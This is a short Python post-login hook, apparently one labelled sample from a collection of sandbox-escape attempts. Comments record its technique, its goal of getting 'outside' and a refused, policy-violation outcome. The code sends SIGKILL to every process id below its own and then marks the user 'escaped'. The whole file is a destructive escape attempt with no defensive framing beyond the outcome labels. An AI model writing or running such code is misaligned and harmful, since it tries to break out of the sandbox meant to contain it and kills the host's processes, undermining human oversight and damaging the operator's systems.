# origin: own
# technique: SIGKILL to the process ids below one's own, without asking for the parent's
# goal: outside
# outcome: refused:import-not-allowed
# kernel: POLICY_VIOLATION
import os


def on_execute_post_login(event, api):
    for pid in range(os.getpid() - 1, 1, -1):
        os.kill(pid, 9)
    api.user.set_app_metadata("escaped", "killed")
